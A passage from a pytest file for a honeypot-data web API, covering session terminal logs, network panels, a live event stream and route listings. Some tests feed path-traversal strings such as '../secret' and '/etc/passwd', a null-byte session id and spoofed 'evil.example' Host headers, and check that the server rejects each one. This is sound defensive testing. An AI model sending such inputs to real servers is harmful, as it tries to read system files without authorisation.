        "c0ffee01.cast",
        "c0ffee01%00",
        "%2fetc%2fpasswd",
        "secret",
    ],
)
def test_ttylog_path_traversal_never_reads_a_file(
    client: TestClient, world: World, monkeypatch: pytest.MonkeyPatch, session: str
) -> None:
    secret = world.spool / "secret.cast"  # what ../secret would reach from spool/tty/
    if not secret.exists():
        secret.write_text(json.dumps({"version": 2}) + "\n" + json.dumps([0.1, "o", "LEAKED"]) + "\n")
        (world.spool / "tty" / "secret.cast").write_text(secret.read_text())
    loads: list[Path] = []
    real_load = TtyLogs.load

    def spy(self: TtyLogs, path: Path) -> dict[str, Any]:
        loads.append(path)
        out: dict[str, Any] = real_load(self, path)
        return out

    monkeypatch.setattr(TtyLogs, "load", spy)
    r = client.get(f"/api/session/ttylog?sensor=cow-fra&session={session}")
    assert r.status_code == 404, (session, r.status_code, r.text)
    assert "LEAKED" not in r.text and loads == []


def test_ttylog_lookup_only_accepts_session_ids(world: World) -> None:
    logs = TtyLogs([world.spool])
    assert logs.find("c0ffee01") == world.spool / "tty" / "c0ffee01.cast"
    for s in ("../secret", "..", "../tty/c0ffee01", "/etc/passwd", "c0ffee01/../c0ffee01", "c0ffee01\x00", "secret"):
        assert logs.find(s) is None, s


# ------------------------------------------------------------------------- network


def test_network_vpc(client: TestClient, world: World) -> None:
    v = get(client, "/api/network/vpc")
    assert v["present"] is True
    for k in ("by_country", "by_port", "by_action"):
        is_table(v[k])
    ports: dict[int, list[str]] = {}
    for src, port, _, _ in VPC_FLOWS:
        ports.setdefault(port, []).append(src)
    rejected = {p: sum(1 for _, q, a, _ in VPC_FLOWS if q == p and a == "REJECT") for p in ports}
    assert as_dicts(v["by_port"]) == [
        {
            "port": p,
            "transport": "tcp",
            "flows": len(ports[p]),
            "unique_ips": len(set(ports[p])),
            "rejected": rejected[p],
        }
        for p in sorted(ports, key=lambda p: (-len(ports[p]), p))
    ]
    assert v["by_action"]["rows"] == [["reject", 3, 2], ["accept", 2, 2], ["nodata", 1, 0]]
    want = query(
        world.lake,
        """SELECT src_country, any_value(src_country_name), count(*),
        count(*) FILTER (WHERE eventid = 'aws.vpcflow.reject'), count(DISTINCT src_ip),
        sum(TRY_CAST(extra->>'$.bytes' AS BIGINT))::BIGINT FROM events
        WHERE eventid LIKE 'aws.vpcflow.%' AND src_country IS NOT NULL GROUP BY 1 ORDER BY 3 DESC, 1""",
    )
    assert v["by_country"]["rows"] == [list(r) for r in want]
    assert sum(r[5] for r in v["by_country"]["rows"]) == sum(f[3] for f in VPC_FLOWS)
    assert len(get(client, "/api/network/vpc", {"limit": 1})["by_port"]["rows"]) == 1
    for params in ({"honeypot": "cowrie"}, {"sensor": "cow-fra"}, {"since": "2026-11-21T00:00:00Z"}):
        assert get(client, "/api/network/vpc", params) == {"present": False}, params


def test_network_route53(client: TestClient, world: World) -> None:
    r = get(client, "/api/network/route53")
    assert r["present"] is True
    for k in ("top_queries", "by_type", "by_country"):
        is_table(r[k])
    names: dict[str, list[tuple[str, str]]] = {}
    for ts, name, _, ip in R53_QUERIES:
        names.setdefault(name, []).append((ts, ip))
    top = as_dicts(r["top_queries"])
    assert [(q["query_name"], q["queries"], q["resolvers"]) for q in top] == [
        (n, len(v), len({ip for _, ip in v})) for n, v in sorted(names.items(), key=lambda kv: (-len(kv[1]), kv[0]))
    ]
    assert (top[0]["first_seen"], top[0]["last_seen"]) == ("2026-11-20T08:15:50.235000", "2026-11-20T08:17:00.500000")
    assert r["by_type"]["rows"] == [["A", 2], ["AAAA", 1], ["TXT", 1]]
    want = query(
        world.lake,
        """SELECT src_country, any_value(src_country_name), count(*), count(DISTINCT src_ip) FROM events
        WHERE eventid = 'aws.route53.query' AND src_country IS NOT NULL GROUP BY 1 ORDER BY 3 DESC, 1""",
    )
    assert r["by_country"]["rows"] == [list(x) for x in want]
    assert sum(x[2] for x in r["by_country"]["rows"]) == len(R53_QUERIES)
    assert get(client, "/api/network/route53", {"honeypot": "heralding"}) == {"present": False}


# ---------------------------------------------------------------------- live, misc


@pytest.mark.parametrize("exists", [False, True])
def test_empty_lake_answers_everything(tmp_path: Path, exists: bool) -> None:
    lake = tmp_path / "lake"
    if exists:
        lake.mkdir()
    with TestClient(create_app(lake, ServeConfig()), base_url=BASE) as c:
        meta = get(c, "/api/meta")
        assert (meta["events"], meta["first_seen"], meta["sensors"], meta["countries"]) == (0, None, [], [])
        for name in PANELS:
            t = get(c, f"/api/panels/{name}")
            assert t["rows"] == ([["(all)", 0, 0, 0, None, None]] if name == "overview" else []), name
        assert all(t["rows"] == [] for t in get(c, "/api/map").values())
        sensors = get(c, "/api/sensors")
        assert sensors.pop("totals")["events"] == 0
        assert sensors.pop("estimated") == []
        assert all(t["rows"] == [] for t in sensors.values())
        assert get(c, "/api/sessions")["rows"] == []
        assert get(c, "/api/network/vpc") == get(c, "/api/network/route53") == {"present": False}
        assert get(c, "/api/live/recent") == {"events": []}
        assert c.get("/api/session?sensor=cow-fra&session=c0ffee01").status_code == 404


def test_live_recent_newest_first(client: TestClient, world: World) -> None:
    ev = get(client, "/api/live/recent")["events"]
    assert len(ev) == min(50, TOTAL_EVENTS)
    assert all(list(e) == list(LIVE_COLUMNS) for e in ev)
    assert [e["ts"] for e in ev] == sorted((e["ts"] for e in ev), reverse=True)
    newest = get(client, "/api/live/recent", {"limit": 3})["events"]
    assert len(newest) == 3
    last = query(world.lake, "SELECT ts, eventid, sensor FROM events ORDER BY ts DESC LIMIT 1")[0]
    assert (newest[0]["ts"], newest[0]["eventid"], newest[0]["sensor"]) == (last[0].isoformat(), last[1], last[2])
    for bad in (0, 201, "x"):
        assert client.get("/api/live/recent", params={"limit": bad}).status_code in (400, 422), bad


def test_openapi_lists_every_route(client: TestClient) -> None:
    spec = get(client, "/api/openapi.json")
    routes = {getattr(r, "path", None) for r in api_module.router.routes}
    assert routes == {
        "/api/meta", "/api/panels/{name}", "/api/map", "/api/sensors", "/api/sessions",
        "/api/session", "/api/session/ttylog", "/api/network/vpc",
        "/api/network/route53", "/api/live/recent", "/api/live",
    }  # fmt: skip
    assert routes <= set(spec["paths"])
    for path in routes:
        assert "get" in spec["paths"][path], path
    params = {p["name"] for p in spec["paths"]["/api/panels/{name}"]["get"]["parameters"]}
    assert {"since", "until", "sensor", "region", "exposure", "honeypot", "country", "limit", "offset"} <= params


@pytest.mark.parametrize(
    ("host", "status"),
    [
        ("127.0.0.1", 200),
        ("127.0.0.1:8000", 200),
        ("localhost:8000", 200),
        ("[::1]:8000", 200),
        ("evil.example", 421),
        ("evil.example:8000", 421),
        ("127.0.0.1.evil.example", 421),
        ("localhost.evil.example:80", 421),
    ],
)
def test_host_header_checked_on_unauthenticated_loopback(client: TestClient, host: str, status: int) -> None:
    r = client.get("/api/meta", headers={"Host": host})
    assert r.status_code == status, r.text
    if status == 421:
        assert "events" not in r.text


# ------------------------------------------------------ a lake that changes under the server

NOW = dt.datetime.now(dt.UTC).replace(microsecond=0, tzinfo=None)


def feed_records(session: str, start: dt.datetime, n: int) -> list[dict[str, Any]]:
    """``n`` Cowrie events of one new session on sensor cow-new, one second apart, each with a distinct command."""
    out = []
    for i in range(n):
        out.append(
            {
                "timestamp": (start + dt.timedelta(seconds=i)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
                "eventid": "cowrie.command.input",
                "sensor": "cow-new",
                "session": session,
                "src_ip": "8.8.4.4",
                "input": f"echo {session}-{i}",
            }
        )
    return out


def write_jsonl(path: Path, records: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


def ingest_cli(path: Path, lake: Path) -> None:
    p = hf("ingest", str(path), "--lake", str(lake), "--json", "--no-progress", cwd=path.parent)
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["ingested"] > 0, p.stdout


def test_answers_follow_the_lake(world: World, tmp_path: Path) -> None:
    lake = tmp_path / "lake"
    shutil.copytree(world.lake, lake)
    with TestClient(create_app(lake, ServeConfig()), base_url=BASE) as c:
        before = get(c, "/api/meta")
        assert before["events"] == TOTAL_EVENTS
        assert get(c, "/api/meta") == before  # cached, and the same
        users = get(c, "/api/panels/overview")
        sessions = get(c, "/api/sessions", {"limit": 500})
        ingest_cli(write_jsonl(tmp_path / "more.json", feed_records("feed0001", NOW, 4)), lake)
        after = get(c, "/api/meta")
        assert after["events"] == TOTAL_EVENTS + 4
        assert "cow-new" in after["sensors"]
        assert get(c, "/api/panels/overview")["rows"][0][1] == users["rows"][0][1] + 4
        rows = get(c, "/api/sessions", {"limit": 500})["rows"]
        assert len(rows) == len(sessions["rows"]) + 1
        assert ["cow-new", "feed0001"] in [r[:2] for r in rows]
        assert get(c, "/api/session?sensor=cow-new&session=feed0001")["events"]["rows"][0][1] == "cowrie.command.input"
        assert get(c, "/api/live/recent", {"limit": 1})["events"][0]["command"] == "echo feed0001-3"


class SSE:
    """Reads a Server-Sent Events stream in a thread; ``events`` receives (event, data) pairs."""

    def __init__(self, url: str) -> None:
        self.events: queue.Queue[tuple[str, Any]] = queue.Queue()
        self.error: BaseException | None = None
        self.thread = threading.Thread(target=self._run, args=(url,), daemon=True)
        self.thread.start()

    def _run(self, url: str) -> None:
        try:
            with (
                httpx.Client(timeout=httpx.Timeout(10.0, read=40.0)) as c,
                c.stream("GET", url, headers={"Accept": "text/event-stream"}) as r,
            ):
                self.events.put(("status", r.status_code))
                self.events.put(("content-type", r.headers.get("content-type")))
                kind, data = "message", []
                for line in r.iter_lines():
                    if line.startswith("retry:"):
                        self.events.put(("retry", line))
                    elif line.startswith("event:"):
                        kind = line.split(":", 1)[1].strip()
                    elif line.startswith("data:"):
                        data.append(line.split(":", 1)[1].strip())
                    elif line == "" and data:
                        self.events.put((kind, json.loads("\n".join(data))))
                        kind, data = "message", []
        except (httpx.HTTPError, OSError) as exc:
            self.error = exc

    def next(self, deadline: float) -> tuple[str, Any] | None:
        left = deadline - time.monotonic()
        if left <= 0:
            return None
        try:
            return self.events.get(timeout=left)
        except queue.Empty:
            return None


def test_live_feed_pushes_new_events_once(world: World, tmp_path: Path) -> None:
    lake = tmp_path / "lake"
    shutil.copytree(world.lake, lake)
    cfg = tmp_path / "honeyfarm.toml"
    cfg.write_text("[serve]\nlive_interval_seconds = 0.25\n", encoding="utf-8")
    with serving("-c", str(cfg), "--lake", str(lake), "--port", "0", cwd=tmp_path, env=serve_env()) as srv:
        sse = SSE(f"{srv.url}/api/live")
        deadline = time.monotonic() + 15
        head: dict[str, Any] = {}
        while "retry" not in head:
            item = sse.next(deadline)
            assert item is not None, f"no SSE preamble: {sse.error}"
            head[item[0]] = item[1]
        assert head["status"] == 200 and head["content-type"].startswith("text/event-stream")
        time.sleep(1.0)  # the poller has listed the lake's files at least once

        got: list[dict[str, Any]] = []

        def wait_for(n: int, timeout: float = 20) -> None:
            end = time.monotonic() + timeout
            while len(got) < n:
                item = sse.next(end)
                assert item is not None, f"{len(got)} of {n} live events within {timeout} s ({sse.error})"
                if item[0] == "events":
                    assert isinstance(item[1], list) and item[1]
                    got.extend(item[1])

        batch1 = feed_records("feed0001", NOW, 3)
        ingest_cli(write_jsonl(tmp_path / "a.json", batch1), lake)
        wait_for(3)
        batch2 = feed_records("feed0002", NOW + dt.timedelta(seconds=30), 2)
        ingest_cli(write_jsonl(tmp_path / "b.json", batch2), lake)
        wait_for(5)
        # Compaction rewrites today's two files into a new one: its events are not news.
        p = hf("compact", "--lake", str(lake), cwd=tmp_path)
        assert p.returncode == 0, p.stderr
        assert len(Lake(lake).partition_files("events", str(NOW.date()))) == 1
        end = time.monotonic() + 1.5
        while (item := sse.next(end)) is not None:
            if item[0] == "events":
                got.extend(item[1])
        assert all(list(e) == list(LIVE_COLUMNS) for e in got)
        commands = [e["command"] for e in got]
        assert sorted(commands) == sorted(r["input"] for r in batch1 + batch2), commands  # each exactly once
        first = next(e for e in got if e["command"] == "echo feed0001-0")
        assert first == {
            "ts": batch1[0]["timestamp"][:19], "sensor": "cow-new", "eventid": "cowrie.command.input",
            "src_ip": "8.8.4.4", "src_country": first["src_country"], "src_lat": first["src_lat"],
            "src_lon": first["src_lon"], "username": None, "password": None, "command": "echo feed0001-0", "url": None,
        }  # fmt: skip
        assert (
            first["src_country"] == query(lake, "SELECT src_country FROM events WHERE src_ip = '8.8.4.4' LIMIT 1")[0][0]
        )

        # The running server's answers follow the lake too.
        with httpx.Client(base_url=srv.url, timeout=10) as c:
            meta = c.get("/api/meta").json()
            assert meta["events"] == TOTAL_EVENTS + 5
            recent = c.get("/api/live/recent", params={"limit": 1}).json()["events"]
            assert recent[0]["command"] == "echo feed0002-1"


def test_a_sensor_name_with_a_slash_has_its_session_page(world: World, tmp_path: Path) -> None:
    """Sensor and session travel as query parameters: a path segment could not carry a "/"."""
    lake = tmp_path / "lake"
    shutil.copytree(world.lake, lake)
    records = [dict(r, sensor="edge/fra-1") for r in feed_records("5a5a0001", NOW, 3)]
    ingest_cli(write_jsonl(tmp_path / "slash.json", records), lake)
    write_ttylog(tmp_path / "spool", "5a5a0001")
    with TestClient(create_app(lake, ServeConfig(ttylog_dirs=[tmp_path / "spool"])), base_url=BASE) as c:
        rows = get(c, "/api/sessions", {"sensor": "edge/fra-1"})["rows"]
        assert [r[:2] for r in rows] == [["edge/fra-1", "5a5a0001"]]
        s = get(c, "/api/session", {"sensor": "edge/fra-1", "session": "5a5a0001"})
        assert len(s["events"]["rows"]) == 3 and s["ttylog"] is True
        assert get(c, "/api/session/ttylog", {"sensor": "edge/fra-1", "session": "5a5a0001"})["frames"]
